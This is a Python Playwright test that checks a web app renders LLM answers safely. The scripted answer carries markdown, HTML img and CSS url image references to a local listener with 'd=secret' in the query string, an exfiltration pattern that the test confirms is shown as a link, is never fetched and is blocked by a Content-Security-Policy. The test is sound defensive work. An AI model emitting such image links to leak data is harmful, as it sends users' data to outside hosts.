"""An answer quotes data, and data can carry an address: rendered as an image, every reader's browser would fetch
it (security finding 12 of the roles issue). The answer shows it as a link; nothing is fetched; the page carries
a Content-Security-Policy."""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import expect

from tests.browser.helpers import ask, turns, wait_for_status
from tests.llm_server import text

pytestmark = pytest.mark.django_db(transaction=True)


class _Fetches(BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self):  # noqa: N802 - http.server's name
        self.seen.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture
def listener():
    _Fetches.seen = []
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Fetches)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", _Fetches.seen
    server.shutdown()
    server.server_close()


@pytest.fixture
def server_env(llm_server):
    return {"LANTIDE_LLM_MODEL": "openai/scripted", "LANTIDE_LLM_API_BASE": llm_server.url, "LANTIDE_LLM_API_KEY": "x"}


def test_an_answer_never_makes_the_reader_fetch_an_address_from_data(alice_page, llm_server, listener):
    address, fetched = listener
    answer = (f"The top customer is ![Acme]({address}/markdown.png?d=secret).\n\n"
              f'<img src="{address}/raw.png?d=secret"> <span style="background:url({address}/style.png)">x</span>')
    llm_server.script("scripted", text(answer))
    response = alice_page.request.get(alice_page.url)
    assert "img-src 'self' data: blob:" in response.headers["content-security-policy"]
    ask(alice_page, "Who is the top customer?")
    turn = turns(alice_page).first
    wait_for_status(turn, "success")
    link = turn.locator("[data-testid=answer] a.image-link")
    expect(link).to_have_text("Acme")
    assert link.get_attribute("href") == f"{address}/markdown.png?d=secret"
    assert turn.locator("[data-testid=answer] img").count() == 0
    alice_page.wait_for_timeout(500)
    assert fetched == []
